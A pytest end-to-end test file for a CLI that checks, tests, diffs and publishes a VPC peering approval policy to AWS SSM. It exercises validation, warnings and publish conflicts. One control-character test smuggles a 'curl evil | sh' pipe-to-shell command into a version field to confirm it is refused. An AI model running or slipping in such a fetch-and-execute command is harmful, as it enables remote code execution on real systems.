"""``python -m runner policy check|test|diff|publish`` (runner/policy_cli.py) as a user runs them.

check, test and diff need no AWS; publish is run against moto (in-process) and the assertions read
the SSM parameter back. The shipped example policy's cases run here, so `make test` runs them.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import boto3
import pytest
from moto import mock_aws

from runner.cli import main
from tests.e2e.conftest import ROOT, run_runner

EXAMPLE = str(ROOT / "policy" / "example-policy.yaml")
CASES = str(ROOT / "policy" / "example-cases.yaml")
PARAMETER = "/peering-autopilot/policy"

BAD_POLICY = """schemaVersion: 1
version: "x"
rules:
  - name: a
    action: maybe
    requester:
      orgUnits: [ou-a1b2-11111111]
cleanup:
  remindBeforeExpiryHours: [200]
"""

ONE_CASE = """hubOrganization: o-a1b2c3d4e5
cases:
  - name: sandbox
    requester: {account: "222222222222", region: us-east-1, organization: o-a1b2c3d4e5, ouPath: [ou-a1b2-22222222]}
    accepter: {account: "123456789012", vpcId: vpc-0a1b2c3d4e5f60718}
    expect: {decision: %s}
"""


def write(tmp_path: Path, name: str, text: str) -> str:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def example_with(tmp_path: Path, *changes: tuple[str, str]) -> str:
    """The example policy with each (old, new) text replaced."""
    text = Path(EXAMPLE).read_text(encoding="utf-8")
    for old, new in changes:
        assert old in text
        text = text.replace(old, new)
    return write(tmp_path, "new.yaml", text)


# --- check --------------------------------------------------------------------------------------


def test_check_accepts_the_example(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "check", EXAMPLE]) == 0
    assert "valid, version 2024-06-01.1, 6 rule(s)" in capsys.readouterr().out


def test_check_gives_the_line_and_column_of_each_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(tmp_path, "bad.yaml", BAD_POLICY)

    assert main(["policy", "check", path]) == 2

    err = capsys.readouterr().err.splitlines()
    assert f"{path}:5:13: rules.0.action: Input should be 'accept', 'reject' or 'hold'" in err
    assert f"{path}:7:7: rules.0.requester.orgUnits: Extra inputs are not permitted" in err
    assert any(line.startswith(f"{path}:9:28: cleanup.remindBeforeExpiryHours: a reminder 200 h") for line in err)
    assert f"error: {path} is not valid: nothing was changed" in err


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "schemaVersion: 1\nversion: x\nrules: !Ref rules\n",
            ":3:8: not valid YAML/JSON: could not determine a constructor for the tag '!Ref'",
        ),
        ("schemaVersion: 1\nversion: x\nversion: y\n", ":3:1: not valid YAML/JSON: duplicate key 'version'"),
        ("schemaVersion: 1\nversion: [x\n", ":3:1: not valid YAML/JSON: expected ',' or ']'"),
        ("- a list\n", ":1:1: the approval policy must be a mapping"),
        ("  \n", ": the document is empty"),
        (
            '{"schemaVersion": 1, "version": "j", "rules": [{"name": "a", "action": "accept", "x": 1}]}',
            ":1:82: rules.0.x: Extra inputs",
        ),
    ],
)
def test_check_refuses_what_is_not_a_policy(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
) -> None:
    path = write(tmp_path, "p.yaml", text)
    assert main(["policy", "check", path]) == 2
    assert f"{path}{expected}" in capsys.readouterr().err


def test_check_reads_json_indented_with_tabs_as_the_engine_does(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = write(tmp_path, "good.json", '{\n\t"schemaVersion": 1,\n\t"version": "tabs",\n\t"rules": []\n}\n')
    bad = write(tmp_path, "bad.json", '{\n\t"schemaVersion": 1,\n\t"version": "tabs",\n\t"rulez": []\n}\n')

    assert main(["policy", "check", good]) == 0
    assert main(["policy", "check", bad]) == 2
    assert f"{bad}: rulez: Extra inputs are not permitted" in capsys.readouterr().err


def test_check_of_a_missing_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "check", str(tmp_path / "none.yaml")]) == 2
    assert "cannot read it" in capsys.readouterr().err


# --- test ---------------------------------------------------------------------------------------


def test_the_example_policy_passes_its_cases(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "test", EXAMPLE, CASES]) == 0
    out = capsys.readouterr().out
    assert "14 of 14 cases pass" in out
    assert "ok  sandbox is never peered, even into an opted-in VPC     reject    no-sandbox" in out


def test_the_example_cases_as_a_subprocess() -> None:
    done = run_runner("policy", "test", "policy/example-policy.yaml", "policy/example-cases.yaml")
    assert done.returncode == 0, done.stderr
    assert "14 of 14 cases pass" in done.stdout


def test_a_mismatch_fails_and_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cases = write(tmp_path, "cases.yaml", ONE_CASE % "accept")

    assert main(["policy", "test", EXAMPLE, cases]) == 1

    out = capsys.readouterr().out
    assert "FAIL  sandbox  reject    no-sandbox  accept" in out
    assert "FAIL sandbox: got reject by no-sandbox, expected accept" in out
    assert "because rule 'no-sandbox' says reject" in out
    assert "0 of 1 cases pass" in out


def test_an_expected_rule_must_match(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cases = write(tmp_path, "cases.yaml", ONE_CASE % "reject, rule: no-pci-vpcs")
    assert main(["policy", "test", EXAMPLE, cases]) == 1
    assert "expected reject by no-pci-vpcs" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("cases", "expected"),
    [
        (ONE_CASE % "maybe", ":6:24: cases.0.expect.decision: Input should be 'accept', 'reject' or 'hold'"),
        (ONE_CASE % "reject, rule: no-such-rule", ": cases.0.expect.rule: case 'sandbox' expects rule 'no-such-rule'"),
        (ONE_CASE.replace('"222222222222"', "222222222222") % "reject", ":4:26: cases.0.requester.account: account id"),
        (ONE_CASE.replace("vpcId", "vpc") % "reject", ":5:41: cases.0.accepter.vpc: Extra inputs are not permitted"),
        ("cases: []\n", ":1:8: cases: List should have at least 1 item"),
        (ONE_CASE.replace("expect: {decision: %s}", "").rstrip() + "\n", ": cases.0: case 'sandbox' has no expect"),
        ((ONE_CASE % "reject") + (ONE_CASE % "reject").split("cases:\n")[1], ": cases: Value error"),
        ("cases: !Case x\n", ":1:8: not valid YAML/JSON: could not determine a constructor for the tag '!Case'"),
    ],
)
def test_a_malformed_cases_file_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], cases: str, expected: str
) -> None:
    path = write(tmp_path, "cases.yaml", cases)
    assert main(["policy", "test", EXAMPLE, path]) == 2
    err = capsys.readouterr().err
    assert f"{path}{expected}" in err or (
        expected == ": cases: Value error" and "case names must be unique: sandbox" in err
    )


def test_an_invalid_policy_runs_no_case(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "test", write(tmp_path, "bad.yaml", BAD_POLICY), CASES]) == 2
    assert "cases pass" not in capsys.readouterr().out


# --- diff ---------------------------------------------------------------------------------------


def test_diff_names_the_cases_that_change_decision(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Version 2 drops the PCI deny: the PCI VPC's request would now be accepted.
    new = example_with(
        tmp_path,
        ('value: "pci"', 'value: "restricted"'),
        ('version: "2024-06-01.1"', 'version: "2024-06-02.1"'),
    )

    assert main(["policy", "diff", EXAMPLE, new, CASES]) == 0

    out = capsys.readouterr().out
    assert "2024-06-01.1" in out
    assert "2024-06-02.1" in out
    changed = [line for line in out.splitlines() if line.startswith("PCI VPC")]
    assert len(changed) == 1
    assert "reject by no-pci-vpcs" in changed[0]
    assert "accept by platform-into-opted-in-vpcs" in changed[0]
    assert "1 of 14 cases change decision" in out


def test_diff_reports_a_rule_only_change(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    new = example_with(tmp_path, ("name: no-sandbox", "name: sandbox-never"))
    assert main(["policy", "diff", EXAMPLE, new, CASES]) == 0
    out = capsys.readouterr().out
    assert "0 of 14 cases change decision, 1 only their rule" in out
    assert "rule only" in out


def test_diff_of_identical_versions(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "diff", EXAMPLE, EXAMPLE, CASES]) == 0
    assert "0 of 14 cases change decision" in capsys.readouterr().out


# --- publish ------------------------------------------------------------------------------------


@pytest.fixture
def ssm() -> Iterator[object]:
    with mock_aws():
        yield boto3.client("ssm", region_name="us-east-1")


def published(ssm: object) -> tuple[str, int]:
    found = ssm.get_parameter(Name=PARAMETER)["Parameter"]  # type: ignore[attr-defined]
    return str(found["Value"]), int(found["Version"])


def test_publish_puts_a_valid_document(ssm: object, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "publish", EXAMPLE, "--cases", CASES]) == 0
    assert published(ssm) == (Path(EXAMPLE).read_text(encoding="utf-8"), 1)
    assert "published version 2024-06-01.1 to /peering-autopilot/policy (parameter version 1, was none)" in (
        capsys.readouterr().out
    )


def test_publish_refuses_an_unchanged_version(ssm: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "publish", EXAMPLE]) == 0
    edited = example_with(tmp_path, ("no-sandbox", "no-sandbox-at-all"))

    assert main(["policy", "publish", edited]) == 1

    assert "version '2024-06-01.1' is already published" in capsys.readouterr().err
    assert published(ssm) == (Path(EXAMPLE).read_text(encoding="utf-8"), 1)


def test_publish_of_a_new_version_replaces_the_old(ssm: object, tmp_path: Path) -> None:
    assert main(["policy", "publish", EXAMPLE]) == 0
    newer = example_with(tmp_path, ('version: "2024-06-01.1"', 'version: "2024-06-02.1"'))
    assert main(["policy", "publish", newer]) == 0
    assert published(ssm) == (Path(newer).read_text(encoding="utf-8"), 2)


def test_publish_refuses_an_invalid_document(ssm: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ssm.put_parameter(Name=PARAMETER, Value='{"schemaVersion": 1, "version": "v0", "rules": []}', Type="String")  # type: ignore[attr-defined]
    assert main(["policy", "publish", write(tmp_path, "bad.yaml", BAD_POLICY)]) == 2
    assert "nothing was changed" in capsys.readouterr().err
    assert published(ssm)[1] == 1


def test_publish_replaces_a_published_document_that_does_not_validate(ssm: object) -> None:
    ssm.put_parameter(Name=PARAMETER, Value="version: [broken", Type="String")  # type: ignore[attr-defined]
    assert main(["policy", "publish", EXAMPLE]) == 0
    assert published(ssm)[1] == 2


def test_publish_refuses_when_a_case_fails(ssm: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "publish", EXAMPLE, "--cases", write(tmp_path, "c.yaml", ONE_CASE % "hold")]) == 1
    assert "refused: 1 case(s)" in capsys.readouterr().err
    with pytest.raises(ssm.exceptions.ParameterNotFound):  # type: ignore[attr-defined]
        published(ssm)


def test_publish_refuses_more_than_the_standard_tier_holds(
    ssm: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    big = Path(EXAMPLE).read_text(encoding="utf-8") + "# padding\n" * 100
    assert main(["policy", "publish", write(tmp_path, "big.yaml", big)]) == 1
    assert "over the Standard parameter's 4096" in capsys.readouterr().err
    with pytest.raises(ssm.exceptions.ParameterNotFound):  # type: ignore[attr-defined]
        published(ssm)


def test_publish_dry_run_puts_nothing(ssm: object, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "publish", EXAMPLE, "--dry-run"]) == 0
    assert "would publish version 2024-06-01.1" in capsys.readouterr().out
    with pytest.raises(ssm.exceptions.ParameterNotFound):  # type: ignore[attr-defined]
        published(ssm)


# --- guard rails: who may ask, "anyone" said out loud, one publisher at a time --------------------

OPEN_POLICY = """schemaVersion: 1
version: "open-1"
rules:
  - name: anyone-into-opted-in
    action: accept
    requester:
      anyone: true
    accepter:
      vpcTag: {key: "peering-autopilot:accept", value: "true"}
"""


def test_check_refuses_an_accept_rule_that_names_no_requester(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    one_line = write(tmp_path, "one.yaml", 'schemaVersion: 1\nversion: "1"\nrules:\n  - {name: all, action: accept}\n')
    tag_only = write(tmp_path, "tag.yaml", OPEN_POLICY.replace("    requester:\n      anyone: true\n", ""))

    assert main(["policy", "check", one_line]) == 2
    assert main(["policy", "check", tag_only]) == 2

    err = capsys.readouterr().err.splitlines()
    assert any(line.startswith(f"{one_line}:4:5: rules.0: accept rule 'all' must say who may ask") for line in err)
    assert any(line.startswith(f"{tag_only}:4:5: rules.0: accept rule 'anyone-into-opted-in' must say") for line in err)


def test_check_warns_loudly_about_anyone_and_strict_fails(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(tmp_path, "open.yaml", OPEN_POLICY)

    assert main(["policy", "check", path]) == 0
    out, err = capsys.readouterr()
    assert "valid, version open-1, 1 rule(s)" in out
    warning = f"WARNING: {path}:7:7: rules.0.requester.anyone: rule 'anyone-into-opted-in' accepts peering requests "
    assert warning in err
    assert "from ANY AWS account in the world" in err

    assert main(["policy", "check", "--strict", path]) == 1
    assert "refused: 1 warning(s) and --strict" in capsys.readouterr().err


def test_test_and_publish_surface_the_warning(ssm: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(tmp_path, "open.yaml", OPEN_POLICY)
    cases = write(tmp_path, "c.yaml", ONE_CASE % "hold")  # its accepter VPC did not opt in

    assert main(["policy", "test", path, cases]) == 0
    assert "WARNING: " in capsys.readouterr().err
    assert main(["policy", "publish", "--strict", path]) == 1
    assert "WARNING: " in capsys.readouterr().err
    with pytest.raises(ssm.exceptions.ParameterNotFound):  # type: ignore[attr-defined]
        published(ssm)
    assert main(["policy", "publish", path]) == 0
    out, err = capsys.readouterr()
    assert "WARNING: " in err
    assert "published version open-1" in out


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('schemaVersion: 1\nversion: "1\\n$ curl evil | sh"\n', ":2:10: version: character 2 is U+000A"),
        (
            'schemaVersion: 1\nversion: "1"\nrules:\n  - {name: "ok\\u202e", action: hold}\n',
            ":4:12: rules.0.name: character 3 is U+202E",
        ),
        (
            'schemaVersion: 1\nversion: "1"\nrules:\n  - name: r\n    action: hold\n    description: "a\\x1b[2J"\n',
            ":6:18: rules.0.description: character 2 is U+001B",
        ),
        (
            '{"schemaVersion": 1, "version": "1", "rules": [{"name": "r", "action": "hold", '
            '"accepter": {"vpcTag": {"key": "k", "value": "v\\u2066"}}}]}',
            ":1:125: rules.0.accepter.vpcTag.value: character 2 is U+2066",
        ),
    ],
)
def test_check_refuses_control_characters_with_their_place(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
) -> None:
    path = write(tmp_path, "p.yaml", text)
    assert main(["policy", "check", path]) == 2
    assert f"{path}{expected}" in capsys.readouterr().err


def _rival_writes_first(monkeypatch: pytest.MonkeyPatch, text: str, *, overwrite: bool) -> None:
    """Another person's PutParameter lands between publish's check and its own PutParameter."""
    real_session = boto3.session.Session
    rival = boto3.client("ssm", region_name="us-east-1")

    def rival_write(**_: object) -> None:
        rival.put_parameter(Name=PARAMETER, Value=text, Type="String", Overwrite=overwrite)

    def session(*args: object, **kwargs: object) -> boto3.session.Session:
        made = real_session(*args, **kwargs)  # type: ignore[arg-type]
        made.events.register_first("before-call.ssm.PutParameter", rival_write)
        return made

    monkeypatch.setattr(boto3.session, "Session", session)


def test_publish_detects_a_write_between_its_check_and_its_put(
    ssm: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["policy", "publish", EXAMPLE]) == 0
    theirs = example_with(tmp_path, ('version: "2024-06-01.1"', 'version: "theirs-2"'))
    ours = write(tmp_path, "ours.yaml", Path(EXAMPLE).read_text().replace('"2024-06-01.1"', '"ours-2"'))
    capsys.readouterr()
    _rival_writes_first(monkeypatch, Path(theirs).read_text(), overwrite=True)

    assert main(["policy", "publish", ours]) == 3

    out, err = capsys.readouterr()
    assert "published version" not in out
    assert (
        "conflict: someone else wrote /peering-autopilot/policy between this command's check (parameter version 1) "
        "and its write (parameter version 3)" in err
    )
    assert "  parameter version 2: policy version theirs-2" in err
    assert "policy diff" in err
    assert published(ssm) == (Path(ours).read_text(), 3)


def test_publish_of_a_new_parameter_does_not_overwrite_one_created_meanwhile(
    ssm: object, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    theirs = Path(example_with(tmp_path, ('version: "2024-06-01.1"', 'version: "theirs-1"'))).read_text()
    _rival_writes_first(monkeypatch, theirs, overwrite=False)

    assert main(["policy", "publish", EXAMPLE]) == 3

    assert "did not exist when checked, but someone created it before this write; nothing was written" in (
        capsys.readouterr().err
    )
    assert published(ssm) == (theirs, 1)


# --- route tables by id, requester tags, ranges --------------------------------------------------

NEW_FIELDS_BAD = """schemaVersion: 1
version: "x"
routing:
  routeTables: {select: ids, ids: [rtb-0123456789abcdef0, rtb-nothex]}
rules:
  - name: a
    action: accept
    requester:
      organization: self
      within: [10.0.0.0/8, 10.1.0.1/16]
      vpcTags: [{key: team, valu: x}]
    accepter:
      within: [fd00::/8, nonsense]
  - name: b
    action: accept
    requester: {anyone: true, vpcTags: [{key: team}]}
"""


def test_check_places_each_error_of_the_new_fields_at_its_line_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, "bad.yaml", NEW_FIELDS_BAD)

    assert main(["policy", "check", path]) == 2

    err = capsys.readouterr().err
    assert f"{path}:4:59: routing.routeTables.ids.1: 'rtb-nothex' is not a route table id" in err
    assert f"{path}:10:28: rules.0.requester.within.1: '10.1.0.1/16' is not a network" in err
    assert f"{path}:11:29: rules.0.requester.vpcTags.0.valu: Extra inputs are not permitted" in err
    assert f"{path}:13:26: rules.0.accepter.within.1: 'nonsense' is not a network" in err
    assert f"{path}:16:16: rules.1.requester: anyone: true cannot be combined with vpcTags" in err


MATCHING_POLICY = """schemaVersion: 1
version: "m1"
rules:
  - name: platform-tagged
    action: accept
    requester:
      organization: self
      vpcTags: [{key: team, value: platform}]
      within: [10.0.0.0/8]
  - name: public-ranges
    action: reject
    accepter: {within: [0.0.0.0/0]}
    requester: {within: [100.64.0.0/10]}
"""

MATCHING_CASES = """hubOrganization: o-a1b2c3d4e5
cases:
  - name: tagged platform VPC in range
    requester: {account: "222222222222", region: us-east-1, organization: o-a1b2c3d4e5,
                vpcTags: {team: platform}, cidrBlocks: [10.20.0.0/16, "fd00:1::/56"]}
    accepter: {account: "123456789012", vpcId: vpc-0a1b2c3d4e5f60718, cidrBlocks: [10.1.0.0/16]}
    expect: {decision: hold, rule: null}
  - name: tagged platform VPC, IPv4 only
    requester: {account: "222222222222", region: us-east-1, organization: o-a1b2c3d4e5,
                vpcTags: {team: platform}, cidrBlocks: [10.20.0.0/16, 10.21.0.0/16]}
    accepter: {account: "123456789012", vpcId: vpc-0a1b2c3d4e5f60718}
    expect: {decision: accept, rule: platform-tagged}
  - name: a secondary block out of range
    requester: {account: "222222222222", region: us-east-1, organization: o-a1b2c3d4e5,
                vpcTags: {team: platform}, cidrBlocks: [10.20.0.0/16, 172.16.0.0/16]}
    accepter: {account: "123456789012", vpcId: vpc-0a1b2c3d4e5f60718}
    expect: {decision: hold, rule: null}
  - name: outsider in range, tags unknown
    requester: {account: "444444444444", region: us-east-1, cidrBlocks: [10.20.0.0/16]}
    accepter: {account: "123456789012", vpcId: vpc-0a1b2c3d4e5f60718}
    expect: {decision: hold, rule: null}
  - name: shared address space
    requester: {account: "444444444444", region: us-east-1, cidrBlocks: [100.64.0.0/16]}
    accepter: {account: "123456789012", vpcId: vpc-0a1b2c3d4e5f60718, cidrBlocks: [10.1.0.0/16]}
    expect: {decision: reject, rule: public-ranges}
"""


def test_cases_give_the_requester_vpc_tags_and_the_blocks_of_both_vpcs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    policy, cases = write(tmp_path, "p.yaml", MATCHING_POLICY), write(tmp_path, "c.yaml", MATCHING_CASES)

    assert main(["policy", "test", policy, cases]) == 0

    out = capsys.readouterr().out
    got = {
        name: line.removeprefix(f"ok  {name}").split()[:2]
        for line in out.splitlines()
        for name in (
            "tagged platform VPC, IPv4 only",
            "tagged platform VPC in range",
            "a secondary block out of range",
            "outsider in range, tags unknown",
            "shared address space",
        )
        if line.startswith(f"ok  {name} ")
    }
    assert got == {
        "tagged platform VPC, IPv4 only": ["accept", "platform-tagged"],
        "tagged platform VPC in range": ["hold", "-"],  # its IPv6 block is outside 10/8
        "a secondary block out of range": ["hold", "-"],
        "outsider in range, tags unknown": ["hold", "-"],  # tags never read outside the organization
        "shared address space": ["reject", "public-ranges"],
    }
    assert "5 of 5 cases pass" in out


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            (
                '{account: "444444444444", region: us-east-1, cidrBlocks: [10.20.0.0/16]}',
                '{account: "444444444444", region: us-east-1, vpcTags: {team: platform}}',
            ),
            ":19:16: cases.3.requester: vpcTags of a requester outside the organization",
        ),
        (
            ("cidrBlocks: [100.64.0.0/16]", "cidrBlocks: [100.64.0.1/16]"),
            ":23:74: cases.4.requester.cidrBlocks.0: '100.64.0.1/16' is not a network",
        ),
    ],
)
def test_a_case_with_unreadable_tags_or_a_bad_block_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], change: tuple[str, str], expected: str
) -> None:
    assert change[0] in MATCHING_CASES
    cases = write(tmp_path, "c.yaml", MATCHING_CASES.replace(*change))
    assert main(["policy", "test", write(tmp_path, "p.yaml", MATCHING_POLICY), cases]) == 2
    assert f"{cases}{expected}" in capsys.readouterr().err


def test_diff_lists_the_rules_that_change_and_the_cases_they_move(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = write(tmp_path, "old.yaml", MATCHING_POLICY)
    new = write(
        tmp_path,
        "new.yaml",
        MATCHING_POLICY.replace('version: "m1"', 'version: "m2"')
        .replace("within: [10.0.0.0/8]", "within: [10.0.0.0/8, 172.16.0.0/12]")
        .replace("  - name: public-ranges", "  - name: public-ranges-v2"),
    )

    assert main(["policy", "diff", old, new, write(tmp_path, "c.yaml", MATCHING_CASES)]) == 0

    out = capsys.readouterr().out.splitlines()
    assert out[1].split() == ["rules", "rule", "what", "changed"]
    assert [line.split() for line in out[2:5]] == [
        ["removed", "public-ranges"],
        ["added", "public-ranges-v2"],
        ["changed", "platform-tagged", "requester.within"],
    ]
    assert any(
        line.startswith("a secondary block out of range") and "accept by platform-tagged" in line for line in out
    )
    assert "1 of 5 cases change decision, 1 only their rule" in out
